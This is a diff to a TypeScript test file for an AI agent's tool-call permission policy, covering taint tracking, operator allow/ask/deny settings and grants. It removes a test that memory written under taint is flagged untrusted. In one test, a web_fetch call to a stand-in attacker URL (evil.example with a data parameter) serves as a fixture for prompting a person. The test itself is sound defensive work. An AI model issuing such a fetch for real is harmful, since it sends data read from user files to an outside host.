@@ -66,12 +66,6 @@ for (const [name, effects, args, clean, underTaint] of rows) {
   })
 }
 
-test('what is kept in memory under taint is marked untrusted', () => {
-  const args = { path: 'notes/a.md', content: 'x' }
-  assert.deepEqual(decided('memory_write', args, tainted), { row: 'memory', do: 'allow', untrusted: true })
-  assert.deepEqual(decided('memory_write', args), { row: 'memory', do: 'allow' })
-})
-
 test('the reason is one that a person understands', () => {
   const decision = decided('web_fetch', { url: 'https://evil.example/?d=1' }, { taint: 'the attached file a.txt' })
   assert(decision.do === 'ask')
@@ -96,8 +90,7 @@ test('why somebody is asked tells what the call does and what was read; after th
 
 test('the operator tightens and loosens each row', () => {
   for (const { id } of policyTable) {
-    const [name, effects, args] =
-      rows.find(([each, kind, given]) => decided(each, given, { effects: kind }).row === id) ?? []
+    const [name, effects, args] = rows.find(([each, kind, given]) => callOf(each, given, kind).row === id) ?? []
     assert(name !== undefined && effects && args, id)
     for (const rule of ['allow', 'ask', 'deny'] as const) {
       const settings = { [id]: { clean: rule, tainted: rule } }
@@ -272,7 +265,7 @@ for (const [what, grant, name, args, more, expected] of grants) {
 test('a refusal of the operator stands above every grant', () => {
   const settings = { shell: { clean: 'deny' } } as const
   const decision = decided('workspace_shell', { command: 'ls' }, { settings, grants: [{ tool: 'workspace_shell' }] })
-  assert.deepEqual(decision, { row: 'shell', do: 'deny', reason: 'the operator does not allow workspace_shell' })
+  assert.deepEqual(decision, { do: 'deny', reason: 'the operator does not allow workspace_shell' })
 })
 
 test('the page shows the table as it is', () => {
